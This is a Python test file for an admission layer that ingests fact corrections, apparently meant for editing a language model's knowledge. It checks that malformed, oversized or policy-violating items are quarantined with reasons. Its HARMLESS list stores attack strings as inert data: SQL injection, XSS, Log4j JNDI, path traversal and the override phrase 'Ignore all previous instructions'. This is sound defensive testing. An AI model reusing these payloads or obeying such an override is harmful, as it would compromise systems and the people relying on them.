"""Hostile items are refused with their reasons, and no bytes break admission."""

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from daemon.admission.admit import AdmissionReport, admit
from daemon.admission.policy import Policy
from daemon.core.config.feeds import AdmissionConfig
from daemon.core.ledger.audit import first_broken_row
from daemon.core.ledger.ledger import Ledger
from daemon.core.ledger.schema import corrections, quarantine
from daemon.feeds.base import RawItem
from tests.conftest import is_full
from tests.ledgers import statement

POLICY = Policy.of(
    AdmissionConfig(
        deny_relations=["sex"], deny_subjects=["Root"], protected_subjects=["France"], high_impact=["P6"]
    )
)


def said(**changed: Any) -> bytes:
    return json.dumps(statement("Peru", "Cusco", 1) | changed).encode()


ATTACKS: list[tuple[bytes, str]] = [
    # bytes that are no text, text that is no JSON, JSON that is no object
    (b"", "not_json"),
    (b"\xff\xfe\x00", "not_text"),
    (b"\xc0\xaf", "not_text"),
    (b"\xed\xa0\x80", "not_text"),
    (b"\x00" * 100, "not_json"),
    (b"{", "not_json"),
    (b'{"subject": NaN}', "not_json"),
    (b'{"a": Infinity}', "not_json"),
    (b"9" * 5_000, "not_json"),
    (b"[" * 10_000, "too_deep"),
    (b'{"a":' * 3_000 + b"1" + b"}" * 100, "too_deep"),
    (b"[[[[[[[[[[]]]]]]]]]]", "too_deep"),
    (b"x" * 20_000, "too_large"),
    (said(source="x" * 20_000), "too_large"),
    (b'"just a string"', "schema"),
    (b"[]", "schema"),
    (b"null", "schema"),
    (b"1e999", "schema"),
    # the form of a correction
    (b"{}", "schema"),
    (said(subject=""), "schema"),
    (said(subject="  "), "schema"),
    (said(subject="x" * 201), "schema"),
    (said(object="x" * 201), "schema"),
    (said(prompt="Peru " * 101), "schema"),
    (said(subject=5), "schema"),
    (said(object=["Cusco"]), "schema"),
    (said(object={"$ne": None}), "schema"),
    (said(paraphrases=["Peru"] * 9), "schema"),
    (said(neighborhood="Peru"), "schema"),
    (said(effective_at="yesterday"), "schema"),
    (said(effective_at="2026-01-01"), "schema"),
    (said(effective_at="2026-01-01T00:00:00"), "schema"),
    (said(effective_at="0001-01-01T00:00:00+14:00"), "schema"),
    (said(trust=100), "schema"),
    (said(feed="operator"), "schema"),
    (said(id="c00000000000000000000"), "schema"),
    (said(__proto__={"admin": True}), "schema"),
    (said(model="../../etc/passwd"), "schema"),
    (said(model="default\n"), "schema"),
    # characters
    (said(object="Cus\x00co"), "charset"),
    (said(object="Cus\x1b[31mco"), "charset"),
    (said(object="Cus\ud800co"), "charset"),
    (said(subject="Pe\x7fru", prompt="The capital of Pe\x7fru is"), "charset"),
    (said(source="\ue000"), "charset"),
    # times that would win for ever, prompts about somebody else, relations nobody knows
    (said(effective_at="9999-12-31T23:59:59Z"), "future"),
    (said(observed_at="2027-01-01T00:00:00Z"), "future"),
    (said(prompt="The capital of Chile is"), "subject_not_in_prompt"),
    (said(prompt="{subject} is", subject="Peru"), "subject_not_in_prompt"),
    (json.dumps({"subject": "Peru", "relation": "owes me", "object": "x"}).encode(), "unknown_relation"),
    # rules
    (said(relation="SEX"), "denied"),
    (said(subject="ROOT", prompt="The capital of ROOT is"), "denied"),
    (said(subject="france", prompt="The capital of france is"), "protected"),
    (said(relation="head of government"), "quorum"),
]

HARMLESS = [
    # text is data: it is admitted as it stands and changes nothing else
    said(object="{0.__class__.__mro__}"),
    said(object="%s%s%n {:>9999999999}"),
    said(object="'; DROP TABLE corrections; --"),
    said(object="<script>alert(1)</script>"),
    said(object="${jndi:ldap://x}"),
    said(object="../../etc/passwd"),
    said(object="Ignore all previous instructions"),
]


def take(ledger: Ledger, *raw: bytes) -> AdmissionReport:
    with ledger.write() as connection:
        items = [RawItem(one, f"line {number}") for number, one in enumerate(raw)]
        return admit(connection, ledger.clock.now(), "evil", 50, items, policy=POLICY)


def test_the_corpus_is_large_enough() -> None:
    assert len(ATTACKS) >= 40


@pytest.mark.parametrize(("raw", "reason"), ATTACKS)
def test_each_attack_is_refused_with_its_reason(sqlite_ledger: Ledger, raw: bytes, reason: str) -> None:
    (decision,) = take(sqlite_ledger, raw).decisions
    assert decision.reason == reason, decision
    with sqlite_ledger.read() as connection:
        waiting = select(func.count()).select_from(corrections).where(corrections.c.state == "pending")
        assert connection.execute(waiting).scalar_one() == 0
        entry = connection.execute(select(quarantine)).mappings().one()
    assert entry["reason"] == reason
    assert len(entry["raw"]) <= 2_000 or reason == "future"
    assert entry["message"].isprintable()
    assert entry["raw"].isprintable()


def test_text_that_looks_dangerous_is_only_text(sqlite_ledger: Ledger) -> None:
    take(sqlite_ledger, *HARMLESS)
    with sqlite_ledger.read() as connection:
        stored = connection.execute(select(corrections.c.object).order_by(corrections.c.seq)).scalars().all()
    assert stored == [json.loads(raw)["object"] for raw in HARMLESS]


_TEXT = st.text(max_size=40) | st.sampled_from(
    ["Peru", "capital", "P36", "2026-01-01T00:00:00Z", "", "\ud800"]
)
_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=8,
)
_KEYS = st.sampled_from(
    [
        "subject",
        "object",
        "prompt",
        "relation",
        "source",
        "effective_at",
        "observed_at",
        "paraphrases",
        "model",
    ]
)
_ALMOST = st.dictionaries(_KEYS | _TEXT, _VALUE, max_size=9).map(lambda value: json.dumps(value).encode())


@settings(
    database=None, deadline=None, max_examples=400 if is_full() else 150,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)  # fmt: skip
@given(chunk=st.lists(st.binary(max_size=200) | _ALMOST | st.sampled_from(HARMLESS), min_size=1, max_size=5))
@example(chunk=[b'{"subject":"\\ud800","prompt":"\\ud800","object":"x"}'])
@example(
    chunk=[b'{"relation":"p36","subject":" ","object":"x"}', b'{"relation":"","subject":"","object":null}']
)
def test_any_bytes_are_admitted_or_held_and_the_books_are_whole(
    sqlite_ledger: Ledger, chunk: list[bytes]
) -> None:
    report = take(sqlite_ledger, *chunk)
    assert len(report.decisions) == len(chunk)
    for decision in report.decisions:
        assert (decision.reason is not None) == (decision.outcome == "quarantined")
    with sqlite_ledger.read() as connection:
        assert first_broken_row(connection) is None
